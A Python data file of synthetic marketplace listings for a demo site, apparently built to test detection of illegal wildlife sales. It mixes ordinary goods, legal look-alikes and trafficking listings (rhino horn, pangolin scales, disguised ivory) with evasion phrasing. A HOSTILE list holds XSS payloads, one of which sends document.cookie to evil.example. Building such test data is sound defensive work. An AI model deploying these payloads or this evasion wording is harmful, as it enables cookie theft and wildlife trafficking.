"""Hand-written listing texts for the en demo site (input of generate_listings.py).

Same shapes as listing_texts_zh: ordinary goods get condition, reason and pickup phrases mixed
in by the generator; look-alikes and wildlife items are written out whole.
"""
from __future__ import annotations

CONDITIONS = ["Like new.", "Excellent condition.", "Good condition, light wear.", "Used but works perfectly.",
              "Some scuffs, see photos.", "Barely used."]
REASONS = ["Moving out of state.", "Upgraded, no longer needed.", "Decluttering.", "Kids outgrew it.",
           "Wrong size, missed the return window.", "Downsizing.", "Gift I never used."]
PICKUP = ["Pickup only.", "Can ship at buyer's cost.", "Cash or Venmo.", "No lowballers please.", "Porch pickup.",
          "Will meet at a public place.", "Free local delivery within 10 miles.", "Price is firm."]

ORDINARY = [
    ("phone", ["iPhone 14 Pro 256GB unlocked", "Unlocked iPhone 14 Pro, Deep Purple"], "Battery health 89%, always in a case with a screen protector.", (550, 720)),
    ("phone", ["Samsung Galaxy S23 128GB", "Galaxy S23 - Phantom Black"], "Carrier unlocked, tiny scratch on the back glass.", (380, 520)),
    ("phone", ["Google Pixel 7a", "Pixel 7a 128GB Charcoal"], "Factory reset and ready to go, charger included.", (220, 300)),
    ("laptop", ["MacBook Pro 14 M2 Pro 16GB", "2023 MacBook Pro 14in"], "Cycle count 140, AppleCare until next spring.", (1300, 1650)),
    ("laptop", ["Dell XPS 13 i7 16GB", "Dell XPS 13 9310"], "Great ultrabook, keyboard has a little shine.", (450, 650)),
    ("laptop", ["Gaming PC RTX 3070 Ryzen 7", "Custom gaming PC 3070"], "Built two years ago, runs everything at 1440p.", (750, 1050)),
    ("tablet", ["iPad Air 5th gen 64GB", "iPad Air M1 with Pencil"], "Comes with Apple Pencil 2 and a folio case.", (380, 480)),
    ("headphones", ["Bose QuietComfort 45", "Bose QC45 headphones"], "Noise cancelling is perfect, ear pads replaced.", (140, 210)),
    ("camera", ["Sony a6400 with 16-50 kit lens", "Sony A6400 kit"], "Shutter count around 8k, two batteries, 64GB card.", (620, 780)),
    ("camera", ["GoPro Hero 11 Black", "GoPro 11 with accessories"], "Includes chest mount, floaty and three batteries.", (220, 300)),
    ("console", ["Nintendo Switch OLED + 3 games", "Switch OLED bundle"], "Zelda, Mario Kart and Animal Crossing included.", (260, 330)),
    ("console", ["Xbox Series X 1TB", "Xbox Series X with 2 controllers"], "Works great, original box.", (330, 420)),
    ("tv", ["LG 55 inch OLED TV", "55\" LG C1 OLED"], "No burn in, remote and stand included.", (550, 800)),
    ("furniture", ["Mid-century walnut dresser", "MCM six-drawer dresser"], "Solid wood, dovetail drawers, a few ring marks on top.", (280, 520)),
    ("furniture", ["IKEA Kallax 4x4 shelf, white", "Kallax shelving unit"], "Already disassembled, all hardware in a bag.", (50, 90)),
    ("furniture", ["Leather recliner, brown", "Brown leather recliner chair"], "Smoke free, pet free home.", (150, 320)),
    ("furniture", ["Solid oak dining table + 6 chairs", "Farmhouse dining set"], "Seats six, leaf included.", (350, 700)),
    ("furniture", ["Standing desk, electric, 60x30", "Electric sit/stand desk"], "Dual motor, memory presets, bamboo top.", (220, 380)),
    ("furniture", ["Queen bed frame with headboard", "Upholstered queen bed frame"], "Grey linen, mattress not included.", (120, 250)),
    ("appliance", ["KitchenAid stand mixer 5qt", "KitchenAid Artisan mixer, red"], "Comes with dough hook, whisk and paddle.", (180, 260)),
    ("appliance", ["Dyson V11 cordless vacuum", "Dyson V11 Animal"], "Battery still holds a full charge.", (250, 340)),
    ("appliance", ["Nespresso Vertuo coffee machine", "Nespresso Vertuo Next"], "Descaled last month, works perfectly.", (70, 110)),
    ("appliance", ["Instant Pot Duo 6qt", "Instant Pot 6 quart"], "Used a handful of times.", (40, 65)),
    ("kitchen", ["Le Creuset dutch oven 5.5qt", "Le Creuset 5.5 qt round, Flame"], "Enamel intact, light staining inside.", (190, 260)),
    ("kitchen", ["Cast iron skillet set (3)", "Lodge cast iron skillets"], "Well seasoned, 8, 10 and 12 inch.", (45, 80)),
    ("kitchen", ["Wedding china set, service for 12", "Fine china dinner set"], "Never used, still in original boxes.", (120, 300)),
    ("clothes", ["Patagonia Down Sweater jacket M", "Men's Patagonia down jacket, medium"], "Navy, no rips or stains.", (120, 170)),
    ("clothes", ["Lululemon Align leggings size 6", "Lulu Align 25\" size 6"], "Worn a few times, no pilling.", (45, 65)),
    ("clothes", ["Vintage Levi's 501 jeans 32x30", "Levi's 501 made in USA"], "Great fade, no holes.", (60, 110)),
    ("shoes", ["Nike Air Jordan 1 Mid size 10", "Jordan 1 Mid, size 10"], "Worn twice, no creasing.", (90, 140)),
    ("shoes", ["Hoka Clifton 9 women's 8", "Hoka Clifton 9, W8"], "Under 50 miles on them.", (70, 100)),
    ("bag", ["Coach leather tote", "Coach City tote, black"], "Authentic, small mark on the bottom.", (90, 150)),
    ("books", ["Harry Potter hardcover box set", "Complete Harry Potter set, hardcover"], "Read once, dust jackets in good shape.", (80, 140)),
    ("books", ["Lot of 30 sci-fi paperbacks", "Sci-fi paperback bundle"], "Asimov, Le Guin, Herbert, Banks and more.", (30, 60)),
    ("books", ["College textbooks: calculus + chem", "Calc and Chem textbooks"], "Some highlighting.", (40, 90)),
    ("baby", ["UPPAbaby Vista stroller", "UPPAbaby Vista V2"], "Bassinet and rain cover included.", (380, 550)),
    ("baby", ["Graco car seat, rear facing", "Graco infant car seat + base"], "Never in an accident, expires 2029.", (60, 100)),
    ("sports", ["Trek hybrid bike, medium frame", "Trek FX 2 hybrid"], "New tires and chain this summer.", (350, 520)),
    ("sports", ["Peloton bike", "Peloton bike with shoes"], "Shoes size 42 included, works perfectly.", (500, 800)),
    ("sports", ["Adjustable dumbbells 5-52.5 lb", "Bowflex SelectTech 552 pair"], "Stand not included.", (220, 320)),
    ("sports", ["Kayak, 10 ft sit-in", "10' recreational kayak"], "Paddle included, no cracks.", (250, 400)),
    ("sports", ["Golf club set, right handed", "Full golf set with bag"], "Irons 4-PW, driver, putter.", (150, 300)),
    ("instrument", ["Fender Player Stratocaster", "Fender Strat, Mexican made"], "Sunburst, recently set up, gig bag.", (520, 650)),
    ("instrument", ["Yamaha digital piano P-45", "Yamaha P45 keyboard"], "88 weighted keys, stand and pedal.", (300, 380)),
    ("toys", ["LEGO Millennium Falcon 75257", "LEGO Star Wars Falcon"], "Complete with instructions and minifigs.", (90, 130)),
    ("toys", ["American Girl doll + clothes", "American Girl doll bundle"], "Lots of outfits and accessories.", (80, 140)),
    ("tools", ["DeWalt 20V drill/driver kit", "DeWalt drill with 2 batteries"], "Charger and case included.", (90, 140)),
    ("tools", ["Craftsman rolling tool chest", "Tool chest, 5 drawer"], "Keys included, drawers slide smoothly.", (150, 280)),
    ("garden", ["Weber Genesis gas grill", "Weber 3-burner grill"], "Cover included, propane tank not.", (250, 420)),
    ("garden", ["Patio set, table + 4 chairs", "Outdoor dining set"], "Aluminum frame, cushions washed.", (180, 350)),
    ("garden", ["Electric lawn mower, Greenworks", "Greenworks cordless mower"], "Two batteries, bag attachment.", (150, 230)),
    ("pets", ["Large dog crate, 42 inch", "42\" wire dog crate"], "Divider and tray included.", (40, 70)),
    ("pets", ["Cat tree, 6 ft", "Tall cat tower"], "Cats ignored it, like new.", (40, 80)),
    ("collectibles", ["Pokemon card binder, 200+ cards", "Pokemon card collection"], "Mostly 2000s, a few holos.", (100, 300)),
    ("collectibles", ["Vintage vinyl records, lot of 40", "Record collection, classic rock"], "Beatles, Zeppelin, Fleetwood Mac.", (120, 250)),
    ("jewelry", ["Sterling silver turquoise ring size 8", "Navajo turquoise ring"], "Stamped .925, signed by the maker.", (60, 150)),
    ("car", ["Thule roof box", "Thule Motion XT roof cargo box"], "Keys included, fits most crossbars.", (350, 480)),
    ("car", ["Set of 4 winter tires 225/65R17", "Winter tires on rims"], "One season of use, plenty of tread.", (300, 500)),
]

# Legal look-alikes: (title, description, price string, category).
LOOKALIKES = [
    ("Ivory linen sofa, 3 seater", "Ivory colored linen slipcovers, washable. Sofa frame is solid.", "$450", "ivory"),
    ("Ivory lace wedding dress size 8", "Worn once, professionally cleaned. Color is ivory, not stark white.", "$300 OBO", "ivory"),
    ("Vintage Ivory soap bars, 1960s box", "Unopened box of Ivory soap from my grandmother's pantry, fun collectible.", "$25", "ivory"),
    ("Tagua nut carved elephant", "Hand carved from tagua (vegetable ivory), a palm seed from Ecuador. Fair trade, no animal products.", "$28", "ivory"),
    ("Vegetable ivory buttons, lot of 50", "Corozo nut buttons from the 1940s, great for sewing projects.", "$35", "ivory"),
    ("Resin netsuke replica set (6)", "Cast resin copies of Japanese netsuke from a museum gift shop. Resin, NOT ivory, they are light and have mold seams.", "$40", "ivory"),
    ("Piano key tops replacement set, plastic", "New plastic keytops in ivory tone for 52 white keys.", "$45", "ivory"),
    ("Mammoth ivory pendant with CITES-exempt paperwork", "Fossil mammoth ivory from Alaska, with dealer certificate and bark visible on the back. Legal in my state.", "$220", "ivory"),
    ("White Elephant gift bundle", "Leftover white elephant party gifts: mug, socks, a singing fish. Take all.", "$15", "ivory"),
    ("Ivory Coast single origin coffee beans 2lb", "Roasted last week, Cote d'Ivoire beans, sealed bags.", "$30", "ivory"),
    ("Bone-handled steak knives, cattle bone", "Set of 6, handles are cattle bone with visible pores and dark specks.", "$35", "ivory"),
    ("Plush pangolin toy, 14 inch", "Super soft stuffed pangolin, my kid's favorite animal. Great for teaching about endangered species.", "$18", "pangolin"),
    ("Pangolin documentary box set DVD", "Three-disc wildlife documentary set about pangolin rescue centres in Africa and Asia, excellent condition.", "$12", "pangolin"),
    ("Rhino Linings spray kit", "Bed liner kit, unopened, one truck's worth.", "$90", "rhino_horn"),
    ("Water buffalo horn comb", "Handmade buffalo horn comb, smooth and static-free.", "$15", "rhino_horn"),
    ("Carved rhino wood figurine", "Carved from acacia wood, about 8 inches long, from a Kenya trip.", "$30", "rhino_horn"),
    ("Tiger Balm, 12 jars", "Red and white, sealed, expiry 2028.", "$36", "tiger"),
    ("Tiger's eye bead bracelet", "Natural tiger's eye gemstone beads on elastic, 8mm.", "$20", "tiger"),
    ("Budgie pair with cage", "Two tame budgies (parakeets), male and female, comes with cage and food. Rehoming due to allergies.", "$60", "live_animal"),
    ("Tortoiseshell acetate eyeglass frames", "Ray-Ban tortoise pattern frames, acetate, fit prescription lenses.", "$65", "hawksbill"),
    ("Tortoiseshell kitten needs home", "12 week old tortie girl, litter trained, first shots done. Rehoming fee covers vet costs.", "$75", "hawksbill"),
    ("Tortoise pattern claw clips, set of 4", "Cellulose acetate hair clips, new.", "$12", "hawksbill"),
    ("Dried fish maw, cod, 1 lb", "Cod fish maw for soups, from an Asian grocery, sealed.", "$40", "totoaba"),
    ("Hornbill print, framed wildlife photo", "Great hornbill photographed in Thailand, 16x20 framed print.", "$85", "hornbill"),
    ("Hornbill kayak paddle, carbon", "Lightweight paddle, brand is Hornbill, used one season.", "$70", "hornbill"),
    ("Leopard print faux fur coat", "Faux fur, size M, fully lined.", "$55", "tiger"),
    ("Elephant family bronze sculpture", "Heavy bronze, about 10 inches tall, signed.", "$150", "ivory"),
    ("Ivory tower: a novel (first edition)", "First printing, dust jacket has a small tear.", "$25", "ivory"),
]

# Illegal or suspicious wildlife listings: (title, description, price, label, category, seller key).
WILDLIFE = [
    ("Antique netsuke, bovine bone, fine cross-hatch grain", "Carved bovine bone netsuke of a rat. Under a loupe you can see the cross-hatch grain on the base, very dense and heavy, creamy yellow patina. Estate find.", "$680", "illegal", "ivory", "estate"),
    ("Old ox bone carving, Guanyin, 8 inch", "Described by the estate as ox bone. Creamy color, no pores, fine engine-turned lines at the base. Heavy for its size.", "$1,250 OBO", "suspicious", "ivory", "estate"),
    ("Pre-ban ivory chess set, complete", "Full set, red and white stained, from my uncle's collection in the 1970s. Selling as is, no paperwork.", "$2,400", "illegal", "ivory", None),
    ("Carved tusk bridge, 24 inch", "Elephant tusk carved with a bridge and figures, on a wooden stand. Serious buyers message me, will ship discreetly.", "$9,500", "illegal", "ivory", "discreet"),
    ("Faux ivory figurine ;) message for real pics", "Listing it as faux to keep it up. It's the real deal, message me on WhatsApp for more pictures and the weight.", "Make an offer", "suspicious", "ivory", "discreet"),
    ("Ivory bangle, heavy, 1920s", "Solid ivory bangle from the 20s, shows age cracks and Schreger lines on the cut. 92 grams.", "$480", "illegal", "ivory", None),
    ("WANTED: old ivory carvings, cash paid", "Buying antique ivory, tusks, carvings, piano keys in bulk. Cash, discreet, will travel. Text only.", None, "illegal", "ivory", "buyer"),
    ("1920s upright piano, original ivory keys", "Plays well, needs tuning. Keytops are the original ivory. Buyer arranges movers.", "$600", "suspicious", "ivory", None),
    ("Mammoth ivory tusk section, no papers", "Sold as mammoth but no paperwork and no bark; very white inside with wide-angle grain.", "$1,900", "suspicious", "ivory", "discreet"),
    ("'White plastic' beads, 108, DM", "Don't ask in comments. Real material, see the grain. DM for price.", None, "suspicious", "ivory", "discreet"),
    ("Rhino horn libation cup, Qing style", "Carved horn cup with honey color and straw-like fibers, from an old collection. Serious inquiries only.", "$18,000", "illegal", "rhino_horn", "orient"),
    ("Horn powder for fever, 10g", "Genuine rhino horn powder, traditional remedy. Small batch, ships worldwide in plain packaging.", "$900", "illegal", "rhino_horn", "orient"),
    ("Pangolin scales, 500g, TCM grade", "Dried pangolin scales, clean, for traditional medicine. Bulk discount available.", "$650", "illegal", "pangolin", "orient"),
    ("Vintage pangolin leather cowboy boots", "Genuine pangolin skin boots from the 80s, size 10, rare find.", "$800", "illegal", "pangolin", None),
    ("Real tiger claw necklace, silver cap", "Genuine tiger claw, not resin or bone. Comes with a story. About 2 inches.", "$1,100", "illegal", "tiger", "orient"),
    ("Tiger bone wine, aged 20 years", "Sealed bottle from Laos, tiger bone steeped. Collector's item.", "$2,200", "illegal", "tiger", "orient"),
    ("Tiger tooth pendant, real", "Real tiger canine, yellowed with age, hollow root.", "$1,500", "illegal", "tiger", None),
    ("Leopard skin rug with head mount", "Real leopard skin rug, felt backed, from a 1960s safari. No permits.", "$3,500", "illegal", "other_wildlife", "estate"),
    ("Red ivory hornbill casque carving", "Helmeted hornbill casque, deep red skin, carved with a landscape. Very rare material.", "$4,800", "illegal", "hornbill", "orient"),
    ("Money maw, large, male, 15 yr aged", "Totoaba fish maw, huge male bladder, aged. Serious buyers, can show more pictures on WeChat.", "$28,000", "illegal", "totoaba", "orient"),
    ("Real tortoiseshell comb, antique", "Genuine turtle shell (hawksbill), not celluloid - passes the hot pin test. Lovely mottling.", "$350", "illegal", "hawksbill", None),
    ("Bekko hairpin set, Japan, real shell", "Traditional bekko kanzashi, genuine turtle shell, from my grandmother.", "$420", "illegal", "hawksbill", "estate"),
    ("Slow loris baby, hand raised", "Super cute slow loris, tame and eats from hand. Local pickup only, cash.", "$1,800", "illegal", "live_animal", "exotics"),
    ("Radiated tortoise hatchlings", "Beautiful star pattern, eating well. No papers needed if you pick up.", "$900 each", "illegal", "live_animal", "exotics"),
    ("African grey parrot, no paperwork", "Talks a lot, 4 years old. Selling without papers, that's why the price.", "$700", "suspicious", "live_animal", "exotics"),
    ("Baby capuchin monkey", "Bottle fed, diapers included. Serious homes only, DM.", "$6,000", "suspicious", "live_animal", "exotics"),
    ("Scrimshaw whale tooth, sailing ship", "Sperm whale tooth with scrimshaw engraving, 6 inches.", "$1,300", "suspicious", "other_wildlife", "estate"),
    ("Saiga horn shavings 'ling yang'", "Genuine saiga antelope horn shavings for cooling tea, 50g.", "$260", "illegal", "other_wildlife", "orient"),
    ("Elephant hair bracelet, real tail hair", "Genuine elephant tail hair woven with gold, lucky charm.", "$150", "suspicious", "ivory", None),
]

HOSTILE = [
    ("Desk lamp <img src=x onerror=alert(document.cookie)>", "Adjustable LED desk lamp. </script><script>alert('pwned')</script> USB port in the base.", "$25", "benign", "none"),
    ("Netsuke <script>alert(1)</script> bovine bone", "\"cow bone\" netsuke, grain visible </script><script>fetch('http://evil.example/?c='+document.cookie)</script> - text me", "$390", "suspicious", "ivory"),
]

SELLERS = [
    "mike_sells_stuff", "Jennifer K.", "garage_finds_23", "Tom's Tools", "sarah.moves.out", "DealsByDan",
    "Priya R.", "vintage_vault", "CollegeClearout", "Linda M.", "BikeGuyPDX", "the_decluttered_home",
    "Chris P.", "Maria G.", "retro_rebecca", "Ahmed S.", "PNW_Outdoors", "Kate & Liam", "bargain_betty", "J. Nguyen",
]
WILDLIFE_SELLERS = {
    "estate": "EstateTreasures_UK", "discreet": "rare_finds_discreet", "buyer": "CashForAntiques",
    "orient": "oriental_arts_collector", "exotics": "exotic_pets_4u",
}
LOCATIONS = ["Austin, TX", "Portland, OR", "Denver, CO", "Chicago, IL", "Brooklyn, NY", "Seattle, WA", "Atlanta, GA",
             "San Diego, CA", "Phoenix, AZ", "Boston, MA", "Miami, FL", "Minneapolis, MN", "London, UK",
             "Manchester, UK", "Leeds, UK", "Bristol, UK", "Toronto, ON", "Vancouver, BC"]
WILDLIFE_LOCATIONS = ["Miami, FL", "Los Angeles, CA", "Queens, NY", "Houston, TX", "London, UK", "Birmingham, UK"]
